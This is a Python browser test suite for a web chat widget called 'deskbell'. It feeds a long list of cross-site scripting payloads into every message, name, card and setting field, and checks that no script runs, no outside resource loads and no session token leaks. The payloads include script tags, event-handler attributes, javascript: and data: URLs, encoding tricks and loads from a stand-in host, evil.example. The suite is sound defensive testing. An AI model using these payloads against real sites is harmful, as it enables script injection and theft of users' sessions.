"""Text is data: whatever anybody writes anywhere is shown as text, runs nothing, asks for nothing."""

import unittest

from browser import Case, before_the_standin, close_browser, until

evil = "https://evil.example/"
run = "alert(1)"
templates = [
    "<script>{run}</script>", "<script src={evil}x.js></script>", "<img src=x onerror={run}>", "<img src={evil}p.png>",
    "<svg onload={run}>", "<svg><script>{run}</script></svg>", "<svg><animate onbegin={run} attributeName=x dur=1s>",
    "<svg><use href=data:image/svg+xml,{run}#x>", "<iframe src=javascript:{run}>", "<iframe srcdoc='<script>{run}</script>'>",
    "<body onload={run}>", "<input onfocus={run} autofocus>", "<select onfocus={run} autofocus>", "<details open ontoggle={run}>",
    "<video src=x onerror={run}>", "<audio src={evil}a.mp3 autoplay>", "<object data={evil}o>", "<embed src={evil}e>",
    "<link rel=stylesheet href={evil}s.css>", "<style>@import '{evil}s.css'</style>", "<style>*{{background:url({evil}b)}}</style>",
    "<meta http-equiv=refresh content='0;url={evil}'>", "<base href={evil}>", "<form action={evil}><input type=submit autofocus>",
    "<a href=javascript:{run}>x</a>", "<marquee onstart={run}>x</marquee>", "<math><mtext><img src=x onerror={run}>",
    "<template><script>{run}</script></template>", "<noscript><p title='</noscript><img src=x onerror={run}>'>",
    "<xmp><img src=x onerror={run}></xmp>", "<!--><img src=x onerror={run}>-->", "<![CDATA[<img src=x onerror={run}>]]>",
    "'\"><img src=x onerror={run}>", "\"><script>{run}</script>", "' onmouseover='{run}' x='", "\" autofocus onfocus=\"{run}",
    "`;{run};`", "${{{run}}}", "{{{{constructor.constructor('{run}')()}}}}", "[x](javascript:{run})", "[x](JaVaScRiPt:{run})",
    "[x](data:text/html,<script>{run}</script>)", "[x](vbscript:{run})", "[x](https://evil.example/\" onclick=\"{run})",
    "[<img src=x onerror={run}>](https://shop.example/)", "[x](https:javascript:{run})", "[x](//evil.example/)", "![x]({evil}i.png)",
    "javascript:{run}", "java\tscript:{run}", "javascript&colon;{run}", "https://shop.example/<script>{run}</script>",
    "https://shop.example/?q=\"><img/src=x/onerror={run}>", "https://user:pass@evil.example/", "data:text/html,<script>{run}</script>",
    "file:///etc/passwd", "blob:{evil}x", "**<img src=x onerror={run}>**", "*<svg onload={run}>*", "**[x](javascript:{run})**",
    "&lt;img src=x onerror={run}&gt;", "&#60;script&#62;{run}&#60;/script&#62;", "\\u003cscript\\u003e{run}", "%3Cscript%3E{run}%3C/script%3E",
    "\u202e<script>{run}</script>", "\u0000<script>{run}</script>", "\ufeff<img src=x onerror={run}>", "<scr\u0000ipt>{run}</scr\u0000ipt>",
    "\U0001f600<img src=x onerror={run}>", "]]><script>{run}</script>", "--><script>{run}</script>", "*/{run}/*", "</style><script>{run}</script>",
    "</textarea><script>{run}</script>", "</title><script>{run}</script>", "<p style=background:url({evil}c)>", "<p style=x:expression({run})>",
    "<x onclick={run} tabindex=1 id=x>#x", "<slot name=x onslotchange={run}>", "<dialog open onclose={run}>",
]
payloads = [template.format(run=run, evil=evil) for template in templates]


class Safety(Case):
    """Every payload in every field that the interface carries."""

    def check_page(self, what):
        found = self.run_js("""
          const root = document.querySelector('deskbell-widget').shadowRoot, bad = [];
          for (const e of root.querySelectorAll('*')) {
            if (!['DIV','SPAN','BUTTON','P','H2','H3','HEADER','SECTION','A','BDI','B','STRONG','EM','I','FORM','INPUT','TEXTAREA','LABEL','CANVAS','svg','path'].includes(e.tagName)) bad.push(e.tagName);
            for (const a of e.attributes) if (/^on/i.test(a.name) || a.name === 'style' && !e.classList.contains('frame') && !e.classList.contains('disc') && e.tagName !== 'TEXTAREA') bad.push(e.tagName + ' ' + a.name);
            if (e.tagName === 'A' && !/^(https?|mailto|tel):/.test(e.href)) bad.push('leads to ' + e.href);
            if (e.tagName === 'A' && e.rel !== 'noopener noreferrer') bad.push('rel ' + e.rel);
          }
          return bad;""")
        self.assertEqual([], found, what)
        self.assertEqual([], self.run_js("return seen.scripts"), what)
        self.assertEqual([], self.run_js("return seen.violations"), what)
        asked = self.run_js("return performance.getEntriesByType('resource').map((e) => e.name).filter((n) => !n.startsWith(location.origin) && !n.startsWith(arguments[0]))", self.rig.address)
        self.assertEqual([], asked, what)

    def dialogue(self, payload, number):
        return {
            "id": f"d{number}", "version": 1, "language": payload, "poke": True, "start": "a", "cards": {
                "a": {"card": "message", "text": payload, "next": "b"},
                "b": {"card": "document", "title": payload, "url": payload, "next": "c"},
                "c": {"card": "question", "text": payload, "choices": [{"text": payload, "next": "d"}, {"text": payload + "2"}]},
                "d": {"card": "infoCapture", "attribute": "x", "type": "choice", "prompt": payload, "choices": [payload, "other"], "next": "e"},
                "e": {"card": "infoCapture", "attribute": "y", "type": "text", "prompt": payload, "placeholder": payload, "next": "f"},
                "f": {"card": "liveChat"}}}

    @before_the_standin
    def test_lines(self):
        """Agents' texts, the visitor's own, names, system texts: all payloads at once in one chat."""
        self.get("/pages/strict.html")
        self.to_chat()
        at = "2026-01-01T10:00:00.000Z"
        probes = 0
        for payload in payloads:
            agent = {"name": payload, "picture": payload, "key": payload}
            for line in (
                {"kind": "message", "from": "agent", "agent": agent, "text": payload, "at": at},
                {"kind": "message", "from": "visitor", "text": payload, "at": at},
                {"kind": "system", "system": payload, "text": payload, "agent": agent, "by": payload, "at": payload},
                {"kind": "system", "system": "connected", "agent": agent, "at": at},
            ):
                seq = self.rig.desk.seq + 1
                self.rig("event", name="line", data={"seq": seq, "id": f"line{seq:08d}", **line})
                probes += str(line).count(repr(payload))
        self.assertGreaterEqual(probes, 200)
        self.assertEqual(len(payloads), len(set(payloads)))
        self.rig("say", texts=["the last one"])
        self.says("the last one")
        self.check_page("lines")
        own = self.bubbles(".out")
        for payload in payloads:
            self.assertTrue(any(text in (payload, payload + " evil.example") for text in own), f"shown to the letter: {payload}")

    def test_typed_by_the_visitor(self):
        self.get("/pages/strict.html")
        self.to_chat()
        for number, payload in enumerate(payloads[::6]):
            self.run_js("const f = arguments[0]; f.value = arguments[1]; f.dispatchEvent(new InputEvent('input', {bubbles: true, composed: true}))", self.shown(".field textarea"), payload)
            self.find(".send").click()
            until("there", lambda: len(self.rig.received()) == number + 1)
        self.check_page("typed")
        self.page.refresh()
        until("shown again", lambda: len(self.bubbles(".out")) >= len(payloads[::6]))
        self.check_page("typed, again")

    @before_the_standin
    def test_cards_agents_and_settings(self):
        """Dialogues, the poke, choices, documents, prompts, agents, chats, settings, texts of the desk."""
        for number, payload in enumerate(payloads[::3]):
            with self.subTest(payload):
                self.rig("reset", dialogues=[self.dialogue(payload, number)], widget={
                    "label": payload, "title": payload, "privacy": payload, "font": payload, "side": payload, "responseDelay": 0,
                    "colours": {"accent": payload, "accentText": payload, "background": payload, "text": payload}, "languages": [payload]})
                self.get("/pages/strict.html")
                until("the launcher", lambda: self.find(".launcher"))
                self.check_page("poke")
                self.run_js("deskbell('open')")
                self.shown(".choices button").click()
                until("the second question", lambda: len(self.all(".choices button")) == 2 and self.all(".choices button")[1].text == "other")
                self.check_page("question")
                self.find(".choices button").click()
                self.shown(".field input").send_keys(payload.replace("\u0000", "").replace("\t", "").replace("\U0001f600", "") + "\n")
                until("the chat", lambda: self.rig.visitor["chat"])
                self.rig("accept", agent={"name": payload, "picture": payload, "key": payload})
                self.rig("typing", on=True)
                self.shown(".field textarea")
                self.check_page("chat")
                self.rig("close", state="ended", system=payload, more={"by": payload, "agent": {"name": payload, "picture": payload, "key": payload}, "takesMessage": True})
                self.shown(".leave")
                self.check_page("leave")

    def test_page_that_is_hostile_by_name(self):
        """A page's own title, address, language and attributes go to the desk as they are, and do nothing."""
        self.get("/pages/strict.html?q=<script>alert(1)</script>")
        self.shown(".launcher")
        for payload in payloads[::9]:
            self.run_js("document.title = arguments[0]; document.documentElement.lang = arguments[0]; history.pushState({}, '', '?' + encodeURIComponent(arguments[0])); deskbell('set', {x: arguments[0]}); deskbell('start', arguments[0]); deskbell(arguments[0])", payload)
        self.run_js("document.documentElement.lang = 'en'")
        until("the last one told", lambda: self.rig.visitor["attributes"].get("x") == payloads[::9][-1])
        self.open()
        self.check_page("page")

    def test_links_show_where_they_lead(self):
        self.get()
        self.to_chat()
        self.rig("say", texts=[
            "[https://bank.example/](https://evil.example/login) and https://bank.example@evil.example/ and (https://shop.example/a). Also mailto:kim@acme.example, tel:+886223456789",
            "請看https://shop.example/價格，謝謝", "**bold *and slanted***, 2 * 3 * 4, **not closed", "[a](https://shop.example/) [b](ftp://x.example/)"])
        self.says("not closed")
        links = self.run_js("return [...arguments[0].querySelectorAll('.bubble a')].map((a) => [a.href, a.innerText])", self.find(".log"))
        self.assertEqual([
            ["https://evil.example/login", "https://bank.example/ evil.example"],
            ["https://bank.example@evil.example/", "https://bank.example@evil.example/ evil.example"],
            ["https://shop.example/a", "https://shop.example/a"],
            ["mailto:kim@acme.example", "mailto:kim@acme.example"],
            ["tel:+886223456789", "tel:+886223456789"],
            ["https://shop.example/%E5%83%B9%E6%A0%BC", "https://shop.example/價格"],
            ["https://shop.example/", "a shop.example"],
        ], links)
        self.says("bold and slanted, 2 * 3 * 4, **not closed")
        self.says("[b](ftp://x.example/)")

    def test_the_token_travels_in_a_header_only(self):
        self.get()
        self.to_chat()
        token = self.run_js("return JSON.parse(localStorage.getItem('deskbell:token'))")
        self.assertRegex(token, "^[a-z2-7]{32}$")
        self.assertTrue(all(token not in entry["path"] for entry in self.rig.state["log"]))
        self.assertTrue(all(entry["token"] for entry in self.rig.state["log"] if entry["path"] != "/v1/hello"))
        self.assertNotIn(token, self.run_js("return document.documentElement.outerHTML"))
        self.assertEqual("", self.run_js("return document.cookie"))

    def test_no_way_to_make_markup_in_the_file(self):
        import re
        import standin
        text = (standin.served / "widget.js").read_text()
        for way in ("innerHTML", "outerHTML", "insertAdjacentHTML", "document.write", "createContextualFragment", "DOMParser", "setHTML", "eval(", "Function(", ".cookie", "srcdoc", "importScripts"):
            self.assertNotIn(way, text)
        self.assertFalse(re.search(r"setTimeout\(\s*[\"'`]", text))


def tearDownModule():
    close_browser()


if __name__ == "__main__":
    unittest.main()
